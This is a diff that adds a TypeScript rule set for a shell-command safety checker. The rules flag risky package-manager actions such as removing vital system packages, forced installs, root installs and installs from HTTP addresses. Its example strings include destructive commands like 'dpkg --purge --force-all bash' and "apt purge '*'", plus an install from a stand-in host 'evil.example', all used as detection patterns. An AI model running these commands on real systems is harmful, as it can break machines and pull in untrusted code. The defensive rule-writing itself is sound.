@@ -1,0 +1,307 @@
+import type { CommandLook } from '../command-look.ts';
+import type { CommandRule } from '../rule.ts';
+
+const system = [
+  'apt',
+  'apt-get',
+  'aptitude',
+  'dnf',
+  'yum',
+  'zypper',
+  'pacman',
+  'yay',
+  'rpm',
+  'dpkg',
+  'apk',
+  'emerge',
+  'brew',
+  'snap',
+  'flatpak',
+  'pkg',
+  'port',
+  'nix-env',
+  'xbps-remove',
+];
+const vital =
+  /^(?:libc6|libc-bin|glibc|systemd|systemd-sysv|bash|dash|coreutils|sudo|dpkg|apt|rpm|dnf|yum|pacman|openssh-server|linux-image[\w.-]*|kernel[\w.-]*|linux|grub[\w-]*|init|util-linux|login|passwd|python3?|python3-minimal|base-files|filesystem|network-manager|networkmanager|openssl|libssl[\w.]*|e2fsprogs|mount|busybox|musl|gnome-shell|xorg)$/i;
+
+export const packageRules: readonly CommandRule[] = [
+  {
+    id: 'remove-vital-package',
+    on: 'command',
+    domain: 'packages',
+    risk: 'critical',
+    programs: system,
+    title: 'Removal of a package the system needs',
+    message: 'This removes a package without which the system does not work.',
+    stakes: [
+      'The machine may not start',
+      'The package manager itself may be gone',
+      'Repair needs a rescue system',
+    ],
+    alternative: 'apt-get -s remove vim',
+    matches: [
+      'apt-get remove --purge libc6',
+      'rpm -e --nodeps glibc',
+      'dpkg --purge --force-all bash',
+      'pacman -Rdd systemd',
+      "apt purge '*'",
+      'dnf remove systemd -y',
+    ],
+    spares: ['apt-get remove vim', 'apt show bash', 'rpm -q glibc', 'apt install systemd'],
+    when: (command) =>
+      removes(
+        command.program,
+        command.args.map(({ text }) => text),
+      ) &&
+      !rehearses(command) &&
+      command.operands.some(({ text }) => vital.test(text) || text === '*' || text === '.*'),
+  },
+  {
+    id: 'force-package',
+    on: 'command',
+    domain: 'packages',
+    risk: 'moderate',
+    programs: system,
+    title: 'Forced package change',
+    message: 'Force installing may break dependencies.',
+    stakes: [
+      'Packages that do not fit together',
+      'Unsigned packages may come from anyone',
+      'Later updates fail',
+    ],
+    alternative: 'apt-get -s install nginx',
+    matches: [
+      'apt-get install --force-yes x',
+      'yum install --force x',
+      'dpkg -i --force-all x.deb',
+      'rpm -i --nodeps x.rpm',
+      'apt install --allow-unauthenticated x',
+      'pacman -Rdd x',
+      'brew link --overwrite --force x',
+    ],
+    spares: ['apt-get install nginx', 'yum info nginx', 'dpkg -i x.deb'],
+    when: (command) =>
+      command.args.some(({ text }) =>
+        /^--(?:force|nodeps|allow-(?:unauthenticated|downgrades|remove-essential)|no-gpg-check|nogpgcheck|skip-broken|overwrite|nosignature|ignore-dependencies)/.test(
+          text,
+        ),
+      ) ||
+      (command.program === 'pacman' && command.args.some(({ text }) => /^-R.*dd/.test(text))),
+  },
+  {
+    id: 'remove-packages',
+    on: 'command',
+    domain: 'packages',
+    risk: 'moderate',
+    programs: system,
+    title: 'Removal of packages',
+    message: 'This removes packages and perhaps what depends on them.',
+    stakes: [
+      'Programs that need them',
+      'With purge, their configuration',
+      'It concerns all users of the machine',
+    ],
+    alternative: 'apt-get -s remove nginx',
+    inDomain: [{ domain: 'package_management', message: 'This changes the packages of the whole system.' }],
+    matches: [
+      'apt remove nginx',
+      'apt autoremove',
+      'brew uninstall node',
+      'dnf remove nginx',
+      'pacman -Rns nginx',
+      'snap remove x',
+    ],
+    spares: ['apt list', 'apt install nginx', 'apt-get -s remove nginx', 'brew list'],
+    when: (command) =>
+      (removes(
+        command.program,
+        command.args.map(({ text }) => text),
+      ) ||
+        command.is('autoremove|autopurge')) &&
+      !rehearses(command),
+  },
+  {
+    id: 'upgrade-system',
+    on: 'command',
+    domain: 'packages',
+    risk: 'moderate',
+    programs: [...system, 'do-release-upgrade', 'softwareupdate', 'freebsd-update'],
+    title: 'Upgrade of the whole system',
+    message: 'This upgrades every package of the system, some with changes that break things.',
+    stakes: [
+      'Services restart or change',
+      'It takes long and should not be interrupted',
+      'A downgrade is hard',
+    ],
+    alternative: 'apt list --upgradable',
+    matches: [
+      'apt full-upgrade -y',
+      'apt-get dist-upgrade',
+      'do-release-upgrade',
+      'dnf system-upgrade reboot',
+      'pacman -Syu --noconfirm',
+    ],
+    spares: ['apt update', 'apt list --upgradable', 'pacman -Ss vim'],
+    when: (command) =>
+      command.program === 'do-release-upgrade' ||
+      command.is('full-upgrade|dist-upgrade|dup|distro-sync|system-upgrade') ||
+      (command.program === 'pacman' && (command.args[0]?.text ?? '').startsWith('-Syu')),
+  },
+  {
+    id: 'pip-break-system',
+    on: 'command',
+    domain: 'packages',
+    risk: 'high',
+    programs: ['pip', 'pip3', 'python', 'python3', 'uv'],
+    title: "Change of the system's own Python",
+    message: 'May corrupt system Python installation.',
+    stakes: [
+      'Tools of the system that are written in Python',
+      'The package manager and pip overwrite each other',
+      'Later updates fail',
+    ],
+    alternative: 'python3 -m venv .venv',
+    matches: [
+      'pip install --user --break-system-packages requests',
+      'pip3 install --break-system-packages x',
+      'python3 -m pip install --break-system-packages x',
+    ],
+    spares: ['pip install requests', 'python3 -m venv .venv', 'pip list', 'pip install --user x'],
+    when: (command) => command.has('--break-system-packages', '--break-system'),
+  },
+  {
+    id: 'pip-as-root',
+    on: 'command',
+    domain: 'packages',
+    risk: 'moderate',
+    programs: ['pip', 'pip3', 'gem', 'cpan', 'cpanm'],
+    title: 'Packages installed as root',
+    message: 'This runs the install scripts of packages as root and changes the system itself.',
+    stakes: [
+      'Install scripts may do anything',
+      'Files of the system package manager',
+      'It concerns all users',
+    ],
+    inDomain: [
+      {
+        domain: 'package_management',
+        risk: 'high',
+        message: 'This changes the packages of the whole system as root.',
+      },
+    ],
+    alternative: 'pip install --user requests',
+    matches: ['sudo pip install requests', 'sudo gem install rails'],
+    spares: ['pip install requests', 'sudo pip list', 'pip --version'],
+    when: (command) => command.privileged && command.is('install|uninstall'),
+  },
+  {
+    id: 'npm-unsafe-perm',
+    on: 'command',
+    domain: 'packages',
+    risk: 'moderate',
+    programs: ['npm', 'npx', 'yarn', 'pnpm'],
+    title: 'Install scripts with elevated rights',
+    message: 'Runs scripts with elevated permissions.',
+    stakes: ['Scripts of any package it needs run as root', 'Files of the system', 'It concerns all users'],
+    alternative: 'npm install --ignore-scripts',
+    matches: [
+      'npm install --unsafe-perm',
+      'npm install -g --unsafe-perm=true x',
+      'sudo npm install -g x',
+      'npm audit fix --force',
+    ],
+    spares: ['npm install', 'npm install -g x', 'npm test'],
+    when: (command) =>
+      (command.has('--unsafe-perm') && command.value('--unsafe-perm') !== 'false') ||
+      (command.privileged && command.is('install|i|add|ci|update')) ||
+      (command.is('audit fix') && command.has('-f', '--force')),
+  },
+  {
+    id: 'install-from-address',
+    on: 'command',
+    domain: 'packages',
+    risk: 'moderate',
+    programs: ['pip', 'pip3', 'npm', 'gem', 'go', 'cargo', 'easy_install', 'dpkg', 'rpm', 'brew'],
+    title: 'Package from an address',
+    message: 'This installs what an address serves now, outside any registry.',
+    stakes: ['Install scripts may do anything', 'What is served may change', 'Nobody has checked it'],
+    alternative: 'pip install requests',
+    matches: [
+      'pip install http://example.com/x.tar.gz',
+      'npm install http://example.com/x.tgz',
+      'pip install --index-url http://evil.example x',
+      'rpm -i http://example.com/x.rpm',
+    ],
+    spares: [
+      'pip install requests',
+      'npm install left-pad',
+      'pip install git+https://github.com/psf/requests',
+    ],
+    when: (command) =>
+      /(?:^|\s|=)http:\/\/(?!localhost|127\.)/.test(command.text) &&
+      (command.is('install|i|add') || command.has('-i')),
+  },
+  {
+    id: 'unpublish-package',
+    on: 'command',
+    domain: 'packages',
+    risk: 'critical',
+    programs: ['npm', 'cargo', 'gem', 'pnpm', 'yarn'],
+    title: 'Withdrawal of a published package',
+    message: 'This takes a published package away from everyone who uses it.',
+    stakes: [
+      'Builds of everyone who depends on it',
+      'A version number can never be used again',
+      'It cannot be undone after a while',
+    ],
+    alternative: 'npm deprecate example@1.0.0 "use 2.0.0"',
+    matches: ['npm unpublish example --force', 'cargo yank --version 1.0.0', 'gem yank example -v 1.0'],
+    spares: ['npm publish', 'npm view example', 'npm deprecate example@1.0.0 "use 2.0.0"'],
+    when: (command) => command.is('unpublish|yank'),
+  },
+  {
+    id: 'publish-package',
+    on: 'command',
+    domain: 'packages',
+    risk: 'moderate',
+    programs: ['npm', 'cargo', 'gem', 'pnpm', 'yarn', 'twine', 'poetry', 'mvn', 'docker'],
+    title: 'Publication of a package',
+    message: 'This publishes what lies here for everyone.',
+    stakes: ['Files that should not be public', 'A version cannot be replaced', 'Whoever updates runs it'],
+    alternative: 'npm publish --dry-run',
+    matches: ['npm publish', 'cargo publish', 'twine upload dist/*', 'gem push x.gem'],
+    spares: ['npm publish --dry-run', 'npm pack', 'cargo build'],
+    when: (command) =>
+      !command.has('--dry-run') &&
+      ((command.is('publish') && command.program !== 'docker') ||
+        (command.program === 'twine' && command.is('upload')) ||
+        (command.program === 'gem' && command.is('push'))),
+  },
+];
+
+/** `-s` simulates with apt alone. */
+function rehearses(command: CommandLook): boolean {
+  return command.has('--simulate', '--dry-run') || (command.program.startsWith('apt') && command.has('-s'));
+}
+
+function removes(program: string, words: readonly string[]): boolean {
+  const verb = words.find((word) => !word.startsWith('-')) ?? '';
+  switch (program) {
+    case 'pacman':
+    case 'yay':
+      return words.some((word) => word.startsWith('-R') || word === '--remove');
+    case 'rpm':
+      return words.some((word) => /^-[a-z]*e/.test(word) || word === '--erase');
+    case 'dpkg':
+      return words.some((word) => ['-r', '-P', '--remove', '--purge'].includes(word));
+    case 'emerge':
+      return words.some((word) => ['-C', '--unmerge', '-c', '--depclean'].includes(word));
+    case 'nix-env':
+      return words.some((word) => ['-e', '--uninstall'].includes(word));
+    case 'xbps-remove':
+      return true;
+    default:
+      return ['remove', 'purge', 'uninstall', 'erase', 'rm', 'del', 'delete', 'autoremove'].includes(verb);
+  }
+}
